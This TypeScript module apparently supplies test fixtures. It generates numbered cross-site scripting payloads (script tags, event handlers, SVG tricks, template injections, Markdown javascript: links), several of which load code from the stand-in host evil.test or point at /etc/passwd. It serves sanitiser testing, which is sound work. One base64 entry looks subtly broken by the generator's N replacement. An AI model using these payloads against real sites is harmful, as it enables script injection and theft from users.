/**
 * Texts that would run as a script wherever a text is taken for markup, code or an address. Each calls
 * `alert`, `xss` or both with its number, so that a test can tell that it ran.
 */
export interface Payload {
  number: number;
  text: string;
}

/** Tags, handlers and documents inside attributes. `N` stands for the number. */
const MARKUP = [
  "<script>xss(N)</script>",
  "<ScRiPt>xss(N)</sCrIpT>",
  "<script src=//evil.test/N.js></script>",
  "<script src=data:text/javascript,xss(N)></script>",
  "<script type=module>xss(N)</script>",
  "<scr<script>ipt>xss(N)</scr</script>ipt>",
  "<script\n>xss(N)</script\n>",
  "<script/x>xss(N)</script>",
  "<<script>xss(N)//<</script>",
  "<img src=x onerror=xss(N)>",
  "<IMG SRC=x OnErRoR=xss(N)>",
  '<img src="x" onerror="xss(N)">',
  "<img/src=x/onerror=xss(N)>",
  "<img src=x onerror=&#120;ss(N)>",
  "<img src=x:x onerror\t=xss(N)>",
  '"><img src=x onerror=xss(N)>',
  "'><img src=x onerror=xss(N)>",
  "`><img src=x onerror=xss(N)>",
  "--><img src=x onerror=xss(N)>",
  "]]><img src=x onerror=xss(N)>",
  "</title><script>xss(N)</script>",
  "</textarea><script>xss(N)</script>",
  "</style><script>xss(N)</script>",
  "</script><script>xss(N)</script>",
  "</noscript><img src=x onerror=xss(N)>",
  "<svg onload=xss(N)>",
  "<svg/onload=xss(N)>",
  "<svg><script>xss(N)</script></svg>",
  "<svg><script href=data:,xss(N) />",
  "<svg><animate onbegin=xss(N) attributeName=x dur=1s>",
  "<svg><set onbegin=xss(N) attributeName=x>",
  "<svg><a xlink:href=javascript:xss(N)><text y=9>x</text></a>",
  "<svg><use href=data:image/svg+xml,N />",
  "<math><mtext><img src=x onerror=xss(N)></mtext></math>",
  "<math href=javascript:xss(N)>x</math>",
  "<body onload=xss(N)>",
  "<iframe src=javascript:xss(N)></iframe>",
  '<iframe srcdoc="<script>parent.xss(N)</script>">',
  "<iframe onload=xss(N)></iframe>",
  "<object data=javascript:xss(N)></object>",
  "<object data=data:text/html,<script>xss(N)</script>>",
  "<embed src=javascript:xss(N)>",
  "<video src=x onerror=xss(N)></video>",
  "<video><source onerror=xss(N)></video>",
  "<audio src=x onerror=xss(N)></audio>",
  "<details open ontoggle=xss(N)>x</details>",
  "<input autofocus onfocus=xss(N)>",
  "<select autofocus onfocus=xss(N)></select>",
  "<textarea autofocus onfocus=xss(N)></textarea>",
  "<button autofocus onfocus=xss(N)>x</button>",
  "<form action=javascript:xss(N)><button>x</button></form>",
  "<button formaction=javascript:xss(N) form=f>x</button>",
  "<isindex action=javascript:xss(N) type=image>",
  "<marquee onstart=xss(N)>x</marquee>",
  "<link rel=stylesheet href=//evil.test/N.css>",
  "<link rel=import href=//evil.test/N>",
  "<style>@import '//evil.test/N.css'</style>",
  "<style>*{background:url(//evil.test/N)}</style>",
  "<div style=background:url(javascript:xss(N))>x</div>",
  "<div style=width:expression(xss(N))>x</div>",
  "<div onpointerenter=xss(N) style=position:fixed;inset:0>x</div>",
  "<x onclick=xss(N) tabindex=1 autofocus onfocus=xss(N)>x</x>",
  "<meta http-equiv=refresh content=0;url=javascript:xss(N)>",
  "<meta http-equiv=refresh content='0;url=//evil.test/N'>",
  "<base href=//evil.test/N/>",
  "<template shadowrootmode=open><img src=x onerror=xss(N)>",
  "<noembed><img src=x onerror=xss(N)></noembed>",
  "<plaintext><img src=x onerror=xss(N)>",
  "<a href=javascript:xss(N) autofocus>x</a>",
  "&lt;img src=x onerror=xss(N)&gt;",
  "&#60;img src=x onerror=xss(N)&#62;",
  "\\u003cimg src=x onerror=xss(N)\\u003e",
  "\\x3cimg src=x onerror=xss(N)\\x3e",
  "%3Cimg%20src=x%20onerror=xss(N)%3E",
  "\uff1cimg src=x onerror=xss(N)\uff1e",
  "<img src=x onerror=alert(N)>\u202e",
] as const;

/** What stands in a template, in code or in an address. */
const CODE = [
  "javascript:xss(N)",
  "JaVaScRiPt:xss(N)",
  "java\tscript:xss(N)",
  "data:text/html,<script>xss(N)</script>",
  "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=N",
  "vbscript:xss(N)",
  "'-xss(N)-'",
  '"-xss(N)-"',
  "';xss(N)//",
  '";xss(N)//',
  "`;xss(N)//",
  "\\';xss(N)//",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one
  "${xss(N)}",
  "{{xss(N)}}",
  "{{constructor.constructor('xss(N)')()}}",
  "#{xss(N)}",
  "<%= xss(N) %>",
  "*/xss(N)/*",
  "__proto__[x]=xss(N)",
  "{count, plural, other {<img src=x onerror=xss(N)>}}",
] as const;

/** What a reader of Markdown might make a link, a picture or markup of. */
const MARKDOWN = [
  "[x](javascript:xss(N))",
  "[x](JAVASCRIPT:xss(N))",
  "[x](java&#x09;script:xss(N))",
  "[x](&#106;avascript:xss(N))",
  "[x](javascript&colon;xss(N))",
  "[x](%6aavascript:xss(N))",
  "[x](<javascript:xss(N)>)",
  '[x](javascript:xss(N) "t")',
  "[x](data:text/html,<script>xss(N)</script>)",
  "[x](vbscript:xss(N))",
  "[x](file:///etc/passwd#N)",
  "[x](blob:http://x/N)",
  "[x](//evil.test/N)",
  "[x](/api/auth/logout?N)",
  "[x](\\\\evil.test\\N)",
  "![x](javascript:xss(N))",
  "![x](https://evil.test/N.png)",
  '![x](x" onerror="xss(N))',
  '![" onerror="xss(N)](https://evil.test/N.png)',
  "<javascript:xss(N)>",
  '<https://x.test/" onclick="xss(N)>',
  'https://x.test/"onmouseover="xss(N)',
  "https://x.test/'><img src=x onerror=xss(N)>",
  "www.x.test/<script>xss(N)</script>",
  "mailto:a@x.test?subject=<img src=x onerror=xss(N)>",
  "[x]: javascript:xss(N)",
  "[a](https://x.test \"' onclick='xss(N)\")",
  "```<img src=x onerror=xss(N)>```",
  "`<img src=x onerror=xss(N)>`",
  "> <img src=x onerror=xss(N)>",
  "- [ ] <img src=x onerror=xss(N)>",
  "# <img src=x onerror=xss(N)>",
  "**<img src=x onerror=xss(N)>**",
  "|<img src=x onerror=xss(N)>|x|",
  "~~<svg onload=xss(N)>~~",
  "@<img src=x onerror=xss(N)>",
  ":<img src=x onerror=xss(N)>:",
] as const;

/** What may stand before a text, as the end of something that it was put into. */
const ESCAPES = ["", '"', "'>", "</a>"] as const;

/** So many different ones. Nearly all are short enough for a name. */
export function payloads(count: number): Payload[] {
  const shapes = [...MARKUP, ...CODE, ...MARKDOWN];
  return Array.from({ length: count }, (_, index) => {
    const number = 1000 + index;
    const shape = shapes[index % shapes.length] ?? "";
    const before = ESCAPES[Math.floor(index / shapes.length) % ESCAPES.length] ?? "";
    return { number, text: before + shape.replaceAll("N", String(number)) };
  });
}
